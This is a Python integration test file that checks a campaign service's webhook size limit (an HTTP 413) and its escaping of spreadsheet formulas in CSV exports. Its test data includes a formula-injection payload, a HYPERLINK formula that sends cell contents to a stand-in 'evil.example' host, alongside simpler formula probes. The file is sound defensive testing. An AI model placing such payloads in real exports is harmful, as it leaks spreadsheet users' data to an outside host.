"""A record that can never fit its topic is 413 (not 503 "retry"); CSV exports run no formulas."""

from __future__ import annotations

from datetime import UTC, datetime

import httpx
import orjson
import pytest

from contracts.campaign import CampaignProgress, CampaignStatus, ContactResult, Disposition
from contracts.topics import CAMPAIGN_RESULTS, CAMPAIGN_STATE
from orchestrator.ingress.signature import sign_for_tests
from orchestrator.kafka.clients import make_producer
from tests.integration.hostile.conftest import Target
from tests.integration.hostile.procs import watched

pytestmark = [pytest.mark.integration]

STARTED = {
    "from": "447700900000",
    "to": "447700900001",
    "uuid": "aaaaaaaa-bbbb-cccc-dddd-0123456789ab",
    "conversation_uuid": "CON-aaaaaaaa-bbbb-cccc-dddd-0123456789ab",
    "status": "started",
    "direction": "outbound",
    "timestamp": "2020-01-01T12:00:00.000Z",
}
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+2", "+1+2", "-2+3", "@SUM(A1)"]


async def test_a_record_too_large_for_the_topic_is_413(target: Target) -> None:
    # 1.5 MB of custom_data: within the webhook limit this ingress was given, over the topic's.
    body = orjson.dumps({**STARTED, "custom_data": {"blob": "x" * 1_500_000}})
    headers = {
        "Authorization": f"Bearer {sign_for_tests(target.signature_secret, body)}",
        "Content-Type": "application/json",
    }
    async with httpx.AsyncClient(base_url=target.proc.base_url, timeout=30) as client:
        with watched(target.proc) as m:
            r = await client.post("/webhooks/event/too-big-1", content=body, headers=headers)
        assert r.status_code == 413, r.text
        assert "larger than" in r.json()["reason"] and "Retry-After" not in r.headers
    m.check("oversize record")


async def test_results_csv_neutralises_formulas(target: Target) -> None:
    name = "csv-inject"
    producer = make_producer(target.settings)
    await producer.start()
    try:
        prefix = target.settings.topic_prefix
        for i, text in enumerate(FORMULAS):
            r = ContactResult(
                id=ContactResult.make_id(name, str(i)),
                campaign=name,
                contact_id=str(i),
                index=i,
                number=text,
                name=text,
                disposition=Disposition.INVALID_NUMBER,
                detail=text,
                attempts=0,
                finished_at=datetime.now(UTC),
            )
            await producer.send_and_wait(
                f"{prefix}{CAMPAIGN_RESULTS.name}", r.to_bytes(), key=f"{name}/{i}".encode()
            )
        progress = CampaignProgress(
            campaign=name, status=CampaignStatus.COMPLETED, at=datetime.now(UTC)
        )
        state = {"state": {"progress": progress.model_dump(mode="json")}}
        await producer.send_and_wait(
            f"{prefix}{CAMPAIGN_STATE.name}", orjson.dumps(state), key=name.encode()
        )
    finally:
        await producer.stop()
    async with httpx.AsyncClient(base_url=target.proc.base_url, timeout=60) as client:
        r = await client.get(f"/v1/campaigns/{name}/results?format=csv", headers=target.auth)
    assert r.status_code == 200, r.text
    lines = r.text.splitlines()[1:]
    assert len(lines) == len(FORMULAS)
    for line in lines:
        for cell in line.split(",")[2:6]:  # number, name, disposition, detail
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
    assert "'=HYPERLINK" in r.text and "'=1+2" in r.text
